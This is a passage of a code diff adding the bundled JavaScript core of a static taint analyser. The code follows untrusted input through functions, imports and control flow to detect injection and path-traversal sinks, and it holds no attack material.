+  booleanMethods: /* @__PURE__ */ new Set(["startsWith", "endsWith", "includes", "has", "test", "isAbsolute", "indexOf", "existsSync"]),
+  resolvers: /* @__PURE__ */ new Set(["path.resolve", "path.normalize", "path.posix.resolve", "path.posix.normalize", "fs.realpath", "fs.realpathSync", "fs.realpathSync.native", "path.win32.resolve"]),
+  joins: /* @__PURE__ */ new Set(["path.join", "path.posix.join", "path.win32.join"])
+};
+
+// src/taint/summary.ts
+var SummaryCache = class {
+  constructor(project) {
+    this.project = project;
+  }
+  project;
+  table = /* @__PURE__ */ new Map();
+  running = /* @__PURE__ */ new Set();
+  /**
+   * Summary of `ref` called with `args` (one per callee parameter, by index). `analyse` receives
+   * placeholders: the callers' taints with no steps and `slot` set to the parameter index.
+   */
+  async call(ref, args2, analyse2) {
+    const key = `${nodeKey(ref)}|${args2.map(taintKey).join("|")}`;
+    if (this.running.has(key)) return null;
+    let p = this.table.get(key);
+    if (!p) {
+      const placeholders = args2.map((a, i2) => a ? { ...a, steps: [], slot: i2 } : null);
+      this.running.add(key);
+      p = analyse2(placeholders).finally(() => this.running.delete(key));
+      this.table.set(key, p);
+    }
+    return p;
+  }
+};
+function instantiateFlows(summary, args2, callStep) {
+  const out2 = [];
+  for (const f of summary.flows) {
+    const slot = f.slot ?? 0;
+    const a = args2[slot];
+    if (!a) continue;
+    out2.push({ ...f, steps: [...a.steps, callStep(slot), ...f.steps], slot: a.slot });
+  }
+  return out2;
+}
+function instantiateReturn(summary, args2, callStep, returnStep) {
+  const r2 = summary.ret;
+  if (!r2) return null;
+  const slot = r2.slot ?? 0;
+  const a = args2[slot];
+  if (!a) return null;
+  return withStep({ ...r2, steps: [...a.steps, callStep(slot), ...r2.steps], slot: a.slot }, returnStep);
+}
+
+// src/taint/javascript.ts
+function named(node) {
+  return node ? node.namedChildren.filter((c) => c && c.type !== "comment") : [];
+}
+function field(node, name2) {
+  return node ? node.childForFieldName(name2) : null;
+}
+var FUNCTION_TYPES2 = /* @__PURE__ */ new Set(["function_declaration", "function_expression", "function", "arrow_function", "method_definition", "generator_function_declaration", "generator_function"]);
+var JS_EXTS = [".ts", ".tsx", ".js", ".mjs", ".cjs", ".jsx", ".mts", ".cts"];
+async function resolveJsModule2(project, fromPath, spec) {
+  if (!spec.startsWith(".")) return null;
+  const all = await project.memo("taint:allpaths-set", async () => new Set(await project.allPaths()));
+  const dir = fromPath.split("/").slice(0, -1);
+  for (const part of spec.split("/")) {
+    if (part === "." || part === "") continue;
+    if (part === "..") dir.pop();
+    else dir.push(part);
+  }
+  const base = dir.join("/");
+  const stem = base.replace(/\.(js|mjs|cjs|jsx|ts|tsx)$/, "");
+  const candidates = [base, ...JS_EXTS.map((e) => stem + e), ...JS_EXTS.map((e) => `${base}/index${e}`)];
+  for (const c of candidates) if (all.has(c)) return c;
+  return null;
+}
+function requireSpec(node) {
+  if (!node) return null;
+  let n = node;
+  while (n.type === "await_expression" || n.type === "parenthesized_expression") n = named(n)[0];
+  if (n.type === "call_expression" && (field(n, "function")?.text === "require" || field(n, "function")?.type === "import")) {
+    return jsLiteralString(named(field(n, "arguments"))[0]);
+  }
+  return null;
+}
+function jsIndex(project, pf) {
+  return project.memo(`taint:jsindex:${pf.file.path}`, async () => {
+    const idx = { imports: /* @__PURE__ */ new Map(), localImports: /* @__PURE__ */ new Map(), functions: /* @__PURE__ */ new Map(), classes: /* @__PURE__ */ new Map(), assigns: /* @__PURE__ */ new Map() };
+    const root = pf.parsed.root;
+    const addImport = async (local, spec, name2) => {
+      const mod = normaliseModule(spec);
+      idx.imports.set(local, name2 && name2 !== "default" ? `${mod}.${name2}` : mod);
+      const path2 = await resolveJsModule2(project, pf.file.path, spec);
+      if (path2) idx.localImports.set(local, { path: path2, name: name2 });
+    };
+    for (const st of named(root)) {
+      const s = st.type === "export_statement" ? named(st).find((c) => c.type !== "decorator") ?? st : st;
+      if (st.type === "import_statement") {
+        const spec = jsLiteralString(field(st, "source"));
+        if (!spec) continue;
+        const clause = named(st).find((c) => c.type === "import_clause");
+        for (const c of named(clause)) {
+          if (c.type === "identifier") await addImport(c.text, spec, "default");
+          else if (c.type === "namespace_import") await addImport(named(c)[0].text, spec);
+          else if (c.type === "named_imports") {
+            for (const sp of named(c)) {
+              const name2 = field(sp, "name").text;
+              await addImport(field(sp, "alias")?.text ?? name2, spec, name2);
+            }
+          }
+        }
+        continue;
+      }
+      if (s.type === "function_declaration" || s.type === "generator_function_declaration") {
+        idx.functions.set(field(s, "name").text, s);
+      } else if (s.type === "class_declaration") {
+        idx.classes.set(field(s, "name").text, s);
+      } else if (s.type === "lexical_declaration" || s.type === "variable_declaration") {
+        for (const d of named(s)) {
+          if (d.type !== "variable_declarator") continue;
+          const name2 = field(d, "name");
+          let value = field(d, "value");
+          if (!value) continue;
+          while (value.type === "as_expression" || value.type === "satisfies_expression" || value.type === "parenthesized_expression") value = named(value)[0];
+          const spec = requireSpec(value);
+          if (spec) {
+            if (name2.type === "identifier") await addImport(name2.text, spec);
+            else if (name2.type === "object_pattern") {
+              for (const p of named(name2)) {
+                if (p.type === "shorthand_property_identifier_pattern") await addImport(p.text, spec, p.text);
+                else if (p.type === "pair_pattern") await addImport(field(p, "value").text, spec, field(p, "key").text);
+              }
+            }
+            continue;
+          }
+          if (value.type === "member_expression" && requireSpec(field(value, "object")) && name2.type === "identifier") {
+            await addImport(name2.text, requireSpec(field(value, "object")), field(value, "property").text);
+            continue;
+          }
+          if (name2.type !== "identifier") continue;
+          if (FUNCTION_TYPES2.has(value.type)) idx.functions.set(name2.text, value);
+          else idx.assigns.set(name2.text, value);
+          if (value.type === "call_expression" && /(^|\.)promisify$/.test(field(value, "function").text)) {
+            const inner = named(field(value, "arguments"))[0];
+            if (inner) {
+              const c = jsCanonical(idx, inner);
+              if (c) idx.imports.set(name2.text, c);
+            }
+          }
+        }
+      } else if (s.type === "expression_statement") {
+        const a = named(s)[0];
+        if (a?.type === "assignment_expression") {
+          const left = field(a, "left");
+          const right = field(a, "right");
+          const m = /^(?:module\.)?exports\.(\w+)$/.exec(left.text);
+          if (m && FUNCTION_TYPES2.has(right.type)) idx.functions.set(m[1], right);
+        }
+      }
+    }
+    return idx;
+  });
+}
+function jsCanonical(idx, node) {
+  let n = node;
+  while (n.type === "parenthesized_expression" || n.type === "non_null_expression" || n.type === "as_expression" || n.type === "await_expression") n = named(n)[0];
+  if (!n) return null;
+  if (n.type === "identifier") return idx.imports.get(n.text) ?? n.text;
+  if (n.type === "member_expression") {
+    const base = jsCanonical(idx, field(n, "object"));
+    const prop = field(n, "property").text;
+    if (!base) return null;
+    const joined = normaliseModule(`${base}.${prop}`);
+    return joined;
+  }
+  if (n.type === "call_expression") {
+    const spec = requireSpec(n);
+    if (spec) return normaliseModule(spec);
+    const base = jsCanonical(idx, field(n, "function"));
+    return base ? `${base}()` : null;
+  }
+  if (n.type === "new_expression") {
+    const base = jsCanonical(idx, field(n, "constructor"));
+    return base ? `new ${base}()` : null;
+  }
+  return null;
+}
+function jsParams(fn) {
+  const params = field(fn, "parameters") ?? field(fn, "parameter");
+  if (!params) return [];
+  if (params.type === "identifier") return [params];
+  return named(params).map((p) => p.type === "required_parameter" || p.type === "optional_parameter" ? field(p, "pattern") ?? p : p.type === "assignment_pattern" ? field(p, "left") ?? p : p);
+}
+var VALIDATOR_NAME = /(allow|permit|whitelist|trusted|within|inside|contain|safe|valid|authori[sz]ed)/i;
+var SQL_TEXT = /\b(select|insert|update|delete|create|drop|alter|where|from|pragma|values|order\s+by|limit)\b/i;
+var URL_WITH_HOST = /^[a-z][a-z0-9+.-]*:\/\/[^/?#${}]+[/?#]/i;
+var JsWalker = class _JsWalker {
+  constructor(cx, pf, idx, fn, depth) {
+    this.cx = cx;
+    this.pf = pf;
+    this.idx = idx;
+    this.fn = fn;
+    this.depth = depth;
+  }
+  cx;
+  pf;
+  idx;
+  fn;
+  depth;
+  flows = [];
+  returns = [];
+  exits = [];
+  local = /* @__PURE__ */ new Map();
+  inSwitch = 0;
+  step(node, message) {
+    return stepAt(this.pf, node, message);
+  }
+  async run(vars, paramNames) {
+    const scope = new Scope();
+    for (const [k, v] of vars) scope.set(k, v);
+    const body2 = field(this.fn, "body");
+    if (body2.type === "statement_block") {
+      const r2 = await this.block(body2, scope);
+      if (!r2.terminated) this.exits.push(r2.scope);
+    } else {
+      const t = await this.eval(body2, scope);
+      if (t) this.returns.push(t);
+      this.exits.push(scope);
+    }
+    const ret = combine(this.returns);
+    const paramSafe = paramNames.map((p) => {
+      const before = vars.get(p);
+      if (!before || !this.exits.length) return null;
+      const kinds = ALL_KINDS.filter((k) => !before.safe.has(k) && this.exits.every((s) => s.get(p)?.safe.has(k)));
+      return kinds.length ? new Set(kinds) : null;
+    });
+    return { flows: this.flows, ret, paramSafe };
+  }
+  async block(block, scope) {
+    let cur = scope;
+    const stmts = block.type === "statement_block" || block.type === "program" ? named(block) : [block];
+    for (const st of stmts) {
+      const r2 = await this.stmt(st, cur);
+      cur = r2.scope;
+      if (r2.terminated) return { scope: cur, terminated: true };
+    }
+    return { scope: cur, terminated: false };
+  }
+  async stmt(st, scope) {
+    switch (st.type) {
+      case "statement_block":
+        return this.block(st, scope);
+      case "expression_statement":
+        for (const e of named(st)) await this.eval(e, scope);
+        return { scope, terminated: false };
+      case "lexical_declaration":
+      case "variable_declaration":
+        for (const d of named(st)) {
+          if (d.type !== "variable_declarator") continue;
+          const v = field(d, "value");
+          const name2 = field(d, "name");
+          if (v && FUNCTION_TYPES2.has(v.type) && name2.type === "identifier") {
+            this.local.set(name2.text, v);
+            continue;
+          }
+          const t = v ? await this.eval(v, scope) : null;
+          this.bind(name2, t, scope, v);
+        }
+        return { scope, terminated: false };
+      case "return_statement": {
+        const e = named(st)[0];
+        if (e) {
+          const t = await this.eval(e, scope);
+          if (t) this.returns.push(withStep(t, this.step(st, `returned: ${snippet2(e)}`)));
+        }
+        this.exits.push(scope);
+        return { scope, terminated: true };
+      }
+      case "throw_statement":
+        return { scope, terminated: true };
+      case "break_statement":
+        return { scope, terminated: this.inSwitch === 0 };
+      case "continue_statement":
+        return { scope, terminated: true };
+      case "if_statement": {
+        const cond = field(st, "condition");
+        await this.eval(cond, scope);
+        const t = await this.block(field(st, "consequence"), this.refine(cond, true, scope.copy()));
+        const falseScope = this.refine(cond, false, scope.copy());
+        const alt = field(st, "alternative");
+        const altBody = alt ? named(alt)[0] : null;
+        const f = altBody ? await this.block(altBody, falseScope) : { scope: falseScope, terminated: false };
+        const live = [t, f].filter((r2) => !r2.terminated).map((r2) => r2.scope);
+        return live.length ? { scope: Scope.merge(live), terminated: false } : { scope, terminated: true };
+      }
+      case "for_in_statement": {
+        const it = await this.eval(field(st, "right"), scope);
+        const inner = scope.copy();
+        const opText = field(st, "operator")?.text;
+        this.bind(field(st, "left"), it && opText !== "in" ? { ...it, argv: void 0 } : null, inner, null);
+        const r2 = await this.block(field(st, "body"), inner);
+        return { scope: Scope.merge(r2.terminated ? [scope] : [scope, r2.scope]), terminated: false };
+      }
+      case "for_statement":
+      case "while_statement":
+      case "do_statement": {
+        const cond = field(st, "condition");
+        const inner = cond ? this.refine(cond, true, scope.copy()) : scope.copy();
+        const init3 = field(st, "initializer");
+        if (init3) await this.stmt(init3, inner);
+        const r2 = await this.block(field(st, "body"), inner);
+        return { scope: Scope.merge(r2.terminated ? [scope] : [scope, r2.scope]), terminated: false };
+      }
+      case "try_statement": {
+        const before = scope.copy();
+        const body2 = await this.block(field(st, "body"), scope);
+        const outs = [body2];
+        const handler = field(st, "handler");
+        if (handler) outs.push(await this.block(field(handler, "body"), Scope.merge([before, body2.scope.copy()])));
+        const live = outs.filter((o) => !o.terminated).map((o) => o.scope);
+        let merged = live.length ? { scope: Scope.merge(live), terminated: false } : { scope: body2.scope, terminated: true };
+        const fin = field(st, "finalizer");
+        if (fin) {
+          const r2 = await this.block(field(fin, "body"), merged.scope);
+          merged = { scope: r2.scope, terminated: merged.terminated || r2.terminated };
+        }
+        return merged;
+      }
+      case "switch_statement": {
+        const value = field(st, "value");
+        await this.eval(value, scope);
+        const outs = [];
+        let hasDefault = false;
+        this.inSwitch++;
+        for (const c of named(field(st, "body"))) {
+          if (c.type === "switch_default") hasDefault = true;
+          let cur = scope.copy();
+          const caseValue = field(c, "value");
+          if (caseValue && jsLiteralString(caseValue) !== null) this.guardExpr(named(value)[0] ?? value, ALL_KINDS, cur);
+          let terminated = false;
+          for (const s of c.childrenForFieldName("body").filter(Boolean)) {
+            if (s.type === "break_statement") break;
+            const r2 = await this.stmt(s, cur);
+            cur = r2.scope;
+            if (r2.terminated) {
+              terminated = true;
+              break;
+            }
+          }
+          if (!terminated) outs.push(cur);
+        }
+        this.inSwitch--;
+        if (!hasDefault) outs.push(scope);
+        return outs.length ? { scope: Scope.merge(outs), terminated: false } : { scope, terminated: true };
+      }
+      case "function_declaration":
+        this.local.set(field(st, "name").text, st);
+        return { scope, terminated: false };
+      case "labeled_statement":
+        return this.stmt(field(st, "body") ?? named(st)[1], scope);
+      default:
+        return { scope, terminated: false };
+    }
+  }
+  bind(target, t, scope, value) {
+    switch (target.type) {
+      case "identifier":
+      case "member_expression":
+      case "subscript_expression": {
+        if (target.type === "subscript_expression") {
+          const base = field(target, "object");
+          if (t) scope.set(base.text, withStep(t, this.step(target, `${base.text} holds ${snippet2(value ?? target)}`)));
+          return;
+        }
+        const name2 = target.text;
+        scope.set(name2, t ? withStep(t, this.step(target, `${name2} = ${snippet2(value ?? target)}`)) : null);
+        if (!value) return;
+        let v = value;
+        while (v.type === "await_expression" || v.type === "as_expression" || v.type === "parenthesized_expression" || v.type === "non_null_expression") v = named(v)[0];
+        if (v.type === "array" && named(v).some((e) => jsLiteralString(e) === "--")) scope.dashDash.add(name2);
+        else scope.dashDash.delete(name2);
+        if (["binary_expression", "unary_expression"].includes(v.type) || v.type === "call_expression" && this.isPredicateCall(v)) scope.predicates.set(name2, v);
+        else scope.predicates.delete(name2);
+        if (v.type === "call_expression" || v.type === "new_expression") {
+          const arg2 = named(field(v, "arguments")).find((a) => scope.get(a.text));
+          if (arg2) scope.derived.set(name2, { from: arg2.text, via: snippet2(v) });
+        } else if (v.type === "member_expression") {
+          const obj = field(v, "object");
+          if (scope.derived.has(obj.text)) scope.derived.set(name2, scope.derived.get(obj.text));
+        }
+        return;
+      }
+      case "object_pattern":
+        for (const p of named(target)) {
+          if (p.type === "shorthand_property_identifier_pattern") this.bind({ type: "identifier", text: p.text }, t ? this.member(t, p.text) : null, scope, value);
+          else if (p.type === "pair_pattern") {
+            const key = field(p, "key").text.replace(/^['"]|['"]$/g, "");
+            this.bind(field(p, "value"), t ? this.member(t, key) : null, scope, value);
+          } else if (p.type === "object_assignment_pattern") {
+            const left = field(p, "left");
+            this.bind(left.type === "shorthand_property_identifier_pattern" ? { type: "identifier", text: left.text } : left, t ? this.member(t, left.text) : null, scope, value);
+          } else if (p.type === "rest_pattern") {
+            const inner = named(p)[0];
+            if (inner) this.bind(inner, t, scope, value);
+          }
+        }
+        return;
+      case "array_pattern":
+        for (const p of named(target)) this.bind(p.type === "assignment_pattern" ? field(p, "left") : p.type === "rest_pattern" ? named(p)[0] : p, t ? { ...t, argv: void 0 } : null, scope, value);
+        return;
+      case "assignment_pattern":
+        this.bind(field(target, "left"), t, scope, value);
+        return;
+      default:
+        return;
+    }
+  }
+  member(t, name2) {
+    if (t.container !== void 0) {
+      if (t.container > 0) return { ...t, container: t.container - 1 };
+      return { ...t, container: void 0, label: name2 };
+    }
+    return { ...t, argv: void 0 };
+  }
+  built(t, prefix, literal) {
+    const out2 = { ...t, resolved: void 0, argv: void 0 };
+    if (prefix === null) {
+      out2.prefixFixed = true;
+      out2.hostFixed = true;
+    } else if (prefix.length > 0) {
+      out2.prefixFixed = true;
+      if (URL_WITH_HOST.test(prefix)) out2.hostFixed = true;
+    }
+    if (SQL_TEXT.test(literal)) out2.sqlBuilt = true;
+    return out2;
+  }
+  async eval(node, scope) {
+    if (!node) return null;
+    switch (node.type) {
+      case "identifier":
+      case "shorthand_property_identifier":
+        return scope.get(node.text) ?? null;
+      case "this":
+        return null;
+      case "member_expression": {
+        const known = scope.get(node.text);
+        if (known !== void 0) return known;
+        const obj = await this.eval(field(node, "object"), scope);
+        return obj ? this.member(obj, field(node, "property").text) : null;
+      }
+      case "subscript_expression": {
+        const known = scope.get(node.text);
+        if (known !== void 0) return known;
+        const obj = await this.eval(field(node, "object"), scope);
+        const index = field(node, "index");
+        await this.eval(index, scope);
+        if (!obj) return null;
+        return this.member(obj, jsLiteralString(index) ?? obj.label);
+      }
+      case "assignment_expression": {
+        const right = field(node, "right");
+        const t = await this.eval(right, scope);
+        this.bind(field(node, "left"), t, scope, right);
+        return t;
+      }
+      case "augmented_assignment_expression": {
+        const left = field(node, "left");
+        const right = field(node, "right");
+        const old = await this.eval(left, scope);
+        const add = await this.eval(right, scope);
+        if (!add) return old;
+        let t = combine([old, add]);
+        if (!old) t = { ...t, prefixFixed: true, hostFixed: true };
+        if (SQL_TEXT.test(jsLiteralString(right) ?? "")) t = { ...t, sqlBuilt: true };
+        scope.set(left.text, withStep(t, this.step(node, snippet2(node))));
+        return t;
+      }
+      case "template_string":
+        return this.templateTaint(node, scope);
+      case "string":
+        return null;
+      case "binary_expression": {
+        const op = field(node, "operator").text;
+        const left = field(node, "left");
+        const right = field(node, "right");
+        const l = await this.eval(left, scope);
+        const r2 = await this.eval(right, scope);
+        if (op === "+") {
+          if (!l && !r2) return null;
+          if (l && !r2) return { ...l, resolved: void 0, argv: void 0, sqlBuilt: l.sqlBuilt || SQL_TEXT.test(jsLiteralString(right) ?? "") || void 0 };
+          if (!l && r2) {
+            const lit = left.type === "string" || left.type === "template_string" ? jsLiteralString(left) : null;
+            return this.built(r2, lit ?? (left.type === "binary_expression" ? this.leadingLiteral(left) : null), lit ?? this.leadingLiteral(left) ?? "");
+          }
+          return combine([l, r2]);
+        }
+        if (op === "||" || op === "??" || op === "&&") return combine([l, r2]);
+        return null;
+      }
+      case "ternary_expression": {
+        await this.eval(field(node, "condition"), scope);
+        return combine([await this.eval(field(node, "consequence"), scope), await this.eval(field(node, "alternative"), scope)]);
+      }
+      case "array": {
+        const els = named(node);
+        const ts = [];
+        for (const e of els) ts.push(await this.eval(e, scope));
+        const i2 = ts.findIndex((t) => t && !t.safe.has("argument"));
+        const idx = i2 >= 0 ? i2 : ts.findIndex((t) => t);
+        if (idx < 0) return null;
+        const dd = els.slice(0, idx).some((e) => jsLiteralString(e) === "--");
+        return { ...ts[idx], argv: { first: idx === 0, afterDashDash: dd } };
+      }
+      case "object": {
+        const ts = [];
+        for (const p of named(node)) {
+          if (p.type === "pair") ts.push(await this.eval(field(p, "value"), scope));
+          else ts.push(await this.eval(p, scope));
+        }
+        return combine(ts);
+      }
+      case "parenthesized_expression":
+      case "await_expression":
+      case "as_expression":
+      case "satisfies_expression":
+      case "non_null_expression":
+      case "type_assertion":
+      case "spread_element":
+        return this.eval(named(node)[0], scope);
+      case "sequence_expression": {
+        let last = null;
+        for (const c of named(node)) last = await this.eval(c, scope);
+        return last;
+      }
+      case "unary_expression":
+        await this.eval(field(node, "argument"), scope);
+        return null;
+      case "call_expression":
+        return this.call(node, scope);
+      case "new_expression":
+        return this.newExpr(node, scope);
+      case "arrow_function":
+      case "function_expression":
+      case "function":
+        await this.callback(node, null, scope);
+        return null;
+      default:
+        return null;
+    }
+  }
+  leadingLiteral(node) {
+    if (node.type === "string" || node.type === "template_string") return jsLiteralString(node) ?? this.templatePrefix(node);
+    if (node.type === "binary_expression") return this.leadingLiteral(field(node, "left"));
+    return null;
+  }
+  templatePrefix(node) {
+    let s = "";
+    for (const c of named(node)) {
+      if (c.type === "string_fragment" || c.type === "escape_sequence") s += c.text;
+      else break;
+    }
+    return s;
+  }
+  async templateTaint(node, scope) {
+    let prefix = "";
+    let literal = "";
+    let first = null;
+    let firstPrefix = "";
+    let seenUntainted = false;
+    const all = [];
+    for (const c of named(node)) {
+      if (c.type === "string_fragment" || c.type === "escape_sequence") {
+        literal += c.text;
+        if (!first) prefix += c.text;
+      } else if (c.type === "template_substitution") {
+        const t = await this.eval(named(c)[0], scope);
+        all.push(t);
+        if (t && !first) {
+          first = t;
+          firstPrefix = seenUntainted ? null : prefix;
+        }
+        if (!t && !first) seenUntainted = true;
+      }
+    }
+    if (!first) return null;
+    return this.built(combine(all), firstPrefix, literal);
+  }
+  /** Walk a callback's body in the current scope (closures see the handler's variables). */
+  async callback(fn, paramTaint, scope) {
+    const inner = new Scope(scope);
+    const params = jsParams(fn);
+    params.forEach((p, i2) => this.bind(p, i2 === 0 ? paramTaint : null, inner, null));
+    const body2 = field(fn, "body");
+    if (!body2) return null;
+    if (body2.type === "statement_block") {
+      const saved = this.returns;
+      this.returns = [];
+      const savedExits = this.exits;
+      this.exits = [];
+      await this.block(body2, inner);
+      const ret = combine(this.returns);
+      this.returns = saved;
+      this.exits = savedExits;
+      return ret;
+    }
+    return this.eval(body2, inner);
+  }
+  isPredicateCall(call) {
+    const f = field(call, "function");
+    const name2 = f.type === "member_expression" ? field(f, "property").text : f.text;
+    return VALIDATOR_NAME.test(name2) || /^(is|has|check)[A-Z_]/.test(name2) || ["includes", "has", "test", "startsWith"].includes(name2);
+  }
+  async newExpr(node, scope) {
+    const ctor = field(node, "constructor");
+    const args2 = named(field(node, "arguments"));
+    const ts = [];
+    for (const a of args2) ts.push(await this.eval(a, scope));
+    const canon = jsCanonical(this.idx, ctor) ?? ctor.text;
+    const hits = JS.sinks({ canon: `new ${canon}`, method: null, receiverNode: null, receiver: null, args: args2.map((n, i2) => ({ node: n, t: ts[i2] })), scope, call: node, idx: this.idx, tagged: false });
+    for (const h of hits) this.report(h, node);
+    if (!ts.some((t2) => t2)) return null;
+    const t = combine(ts);
+    if (canon === "URL") return ts[0] ? { ...ts[0], hostFixed: ts[0].hostFixed } : { ...t, hostFixed: false };
+    return t;
+  }
+  async call(node, scope) {
+    const fnNode = field(node, "function");
+    const argsNode = field(node, "arguments");
+    const tagged = argsNode?.type === "template_string";
+    const argNodes = tagged ? [argsNode] : named(argsNode);
+    const isMember = fnNode.type === "member_expression";
+    const method = isMember ? field(fnNode, "property").text : null;
+    const receiverNode = isMember ? field(fnNode, "object") : null;
+    const receiver = receiverNode ? await this.eval(receiverNode, scope) : fnNode.type === "call_expression" ? await this.eval(fnNode, scope) : null;
+    const args2 = [];
+    for (const a of argNodes) {
+      if (FUNCTION_TYPES2.has(a.type)) {
+        const iterates = receiver && method && ["map", "forEach", "filter", "flatMap", "some", "every", "find", "reduce", "then"].includes(method);
+        const r2 = await this.callback(a, iterates ? { ...receiver, argv: void 0 } : null, scope);
+        args2.push({ node: a, t: method === "map" || method === "then" ? r2 : null });
+      } else args2.push({ node: a, t: await this.eval(a, scope) });
+    }
+    const canon = fnNode.type === "import" ? "import" : jsCanonical(this.idx, fnNode);
+    const anyArg = args2.some((a) => a.t);
+    if (anyArg || receiver) {
+      const hits = JS.sinks({ canon, method, receiverNode, receiver, args: args2, scope, call: node, idx: this.idx, tagged });
+      for (const h of hits) this.report(h, node);
+    }
+    if (tagged && JS.safeTags.test(fnNode.text)) return null;
+    const name2 = canon ?? "";
+    const san = JS.sanitizers.get(name2) ?? (method ? JS.sanitizerMethods.get(method) : void 0);
+    if (san) {
+      const src = combine([receiver, ...args2.map((a) => a.t)]);
+      if (!src || san === "all") return null;
+      return markSafe(src, san);
+    }
+    if (method && JS.booleanMethods.has(method)) return null;
+    const ref = await this.resolveCallee(fnNode);
+    if (ref) {
+      if (!anyArg) return null;
+      return this.callLocal(ref, node, args2, scope);
+    }
+    if (receiver) {
+      if (method === "get" && receiver.container !== void 0) return this.member(receiver, jsLiteralString(args2[0]?.node) ?? receiver.label);
+      if (method === "split") return { ...receiver, argv: { first: true, afterDashDash: false } };
+      if (method === "concat" || method === "join") return combine([receiver, ...args2.map((a) => a.t)]);
+      if (method === "map" && args2[0]?.t) return { ...args2[0].t, argv: receiver.argv };
+      return { ...receiver, argv: method === "map" || method === "filter" || method === "slice" ? receiver.argv : void 0 };
+    }
+    if (!anyArg) return null;
+    let t = combine(args2.map((a) => a.t));
+    if (isMember && method && ["get", "has", "includes", "indexOf", "test", "match"].includes(method)) return null;
+    if (JS.resolvers.has(name2)) t = { ...t, resolved: true, argv: void 0, prefixFixed: true, hostFixed: true };
+    else if (JS.joins.has(name2)) {
+      t = { ...t, resolved: true, argv: void 0 };
+      if (!args2[0]?.t) t = { ...t, prefixFixed: true };
+    } else if (/^(path\.(basename|dirname|extname))$/.test(name2)) t = { ...t, argv: void 0 };
+    else t = { ...t, argv: void 0 };
+    return t;
+  }
+  report(h, call) {
+    const t = h.taint;
+    if (t.safe.has(h.kind)) return;
+    this.flows.push({
+      kind: h.kind,
+      handler: t.origin.handler,
+      param: t.origin.param,
+      label: t.label,
+      sink: h.sink,
+      path: this.pf.file.path,
+      range: rangeOf(this.pf, call),
+      steps: [...t.steps, this.step(h.arg ?? call, `reaches ${h.sink}`)],
+      slot: t.slot
+    });
+  }
+  async resolveCallee(fnNode) {
+    if (this.depth >= MAX_CALL_DEPTH) return null;
+    if (fnNode.type === "identifier") {
+      const nested = this.local.get(fnNode.text);
+      if (nested) return { pf: this.pf, node: nested };
+      const top = this.idx.functions.get(fnNode.text);
+      if (top) return { pf: this.pf, node: top };
+      const imp = this.idx.localImports.get(fnNode.text);
+      if (imp?.name) return this.functionIn(imp.path, imp.name);
+      return null;
+    }
+    if (fnNode.type === "member_expression") {
+      const obj = field(fnNode, "object");
+      const prop = field(fnNode, "property").text;
+      if (obj.type === "this") {
+        let cls = this.fn.parent;
+        while (cls && cls.type !== "class_declaration" && cls.type !== "class") cls = cls.parent;
+        if (!cls) return null;
+        for (const m of named(field(cls, "body"))) {
+          if (m.type === "method_definition" && field(m, "name").text === prop) return { pf: this.pf, node: m };
+          if ((m.type === "public_field_definition" || m.type === "field_definition") && field(m, "name")?.text === prop) {
+            const v = field(m, "value");
+            if (v && FUNCTION_TYPES2.has(v.type)) return { pf: this.pf, node: v };
+          }
+        }
+        return null;
+      }
+      if (obj.type === "identifier") {
+        const imp = this.idx.localImports.get(obj.text);
+        if (imp && (!imp.name || imp.name === "default")) return this.functionIn(imp.path, prop);
+      }
+    }
+    return null;
+  }
+  async functionIn(path2, name2) {
+    const pf = await parsedFile(this.cx.project, path2);
+    if (!pf || pf.parsed.language === "python") return null;
+    const idx = await jsIndex(this.cx.project, pf);
+    const fn = idx.functions.get(name2);
+    if (fn) return { pf, node: fn };
+    const imp = idx.localImports.get(name2);
+    if (imp?.name && imp.path !== path2) return this.functionIn(imp.path, imp.name);
+    return null;
+  }
+  async callLocal(ref, call, args2, scope) {
+    const params = jsParams(ref.node);
+    const calleeName = field(ref.node, "name")?.text ?? (ref.node.parent?.type === "variable_declarator" ? field(ref.node.parent, "name")?.text : void 0) ?? "helper";
+    const argTaints = params.map((_, i2) => args2[i2]?.t ?? null);
+    if (!argTaints.some((a) => a)) return null;
+    const paramNames = params.map((p) => p.type === "identifier" ? p.text : "");
+    const summary = await this.cx.summaries.call(ref, argTaints, async (placeholders) => {
+      const idx = ref.pf === this.pf ? this.idx : await jsIndex(this.cx.project, ref.pf);
+      const w = new _JsWalker(this.cx, ref.pf, idx, ref.node, this.depth + 1);
+      if (ref.pf === this.pf) for (const [k, v] of this.local) w.local.set(k, v);
+      const scope0 = new Scope();
+      const vars = /* @__PURE__ */ new Map();
+      placeholders.forEach((p, i2) => {
+        if (!p) return;
+        const pt = withStep(p, stepAt(ref.pf, params[i2], `parameter ${params[i2].text} of ${calleeName}()`));
+        if (params[i2].type === "identifier") vars.set(params[i2].text, pt);
+        else {
+          w.bind(params[i2], pt, scope0, null);
+          for (const [k, v] of scope0.vars) if (v) vars.set(k, v);
+        }
+      });
+      return w.run(vars, paramNames);
+    });
+    if (!summary) return null;
+    const callStep = (slot) => this.step(args2[slot]?.node ?? call, `passed to ${calleeName}() as ${paramNames[slot] || "argument"}`);
+    this.flows.push(...instantiateFlows(summary, argTaints, callStep));
+    summary.paramSafe.forEach((kinds, i2) => {
+      const n = args2[i2]?.node;
+      const t = argTaints[i2];
+      if (kinds && n && t) scope.set(n.text, markSafe(t, kinds));
+    });
+    return instantiateReturn(summary, argTaints, callStep, this.step(call, `returned by ${calleeName}()`));
+  }
+  // ---------------------------------------------------------------- guards
+  refine(cond, truth, scope) {
+    switch (cond.type) {
+      case "parenthesized_expression":
+      case "await_expression":
+        return this.refine(named(cond)[0], truth, scope);
+      case "unary_expression":
+        if (field(cond, "operator")?.text === "!") return this.refine(field(cond, "argument"), !truth, scope);
+        return scope;
+      case "identifier": {
+        const p = scope.predicates.get(cond.text);
+        if (p) this.refine(p, truth, scope);
+        return scope;
+      }
+      case "binary_expression": {
+        const op = field(cond, "operator").text;
+        const a = field(cond, "left");
+        const b = field(cond, "right");
+        if (op === "&&" && truth || op === "||" && !truth) {
+          this.refine(a, truth, scope);
+          this.refine(b, truth, scope);
+          return scope;
+        }
+        if ((op === "===" || op === "==") && truth || (op === "!==" || op === "!=") && !truth) {
+          if (jsLiteralString(b) !== null && this.mentions(a, scope)) this.guardExpr(a, ALL_KINDS, scope);
+          else if (jsLiteralString(a) !== null && this.mentions(b, scope)) this.guardExpr(b, ALL_KINDS, scope);
+        }
+        if (op === "in" && truth && this.mentions(a, scope) && !this.mentions(b, scope)) this.guardExpr(a, ALL_KINDS, scope);
+        return scope;
+      }
+      case "call_expression": {
+        const f = field(cond, "function");
+        const args2 = named(field(cond, "arguments"));
+        if (f.type === "member_expression") {
+          const m = field(f, "property").text;
+          const obj = field(f, "object");
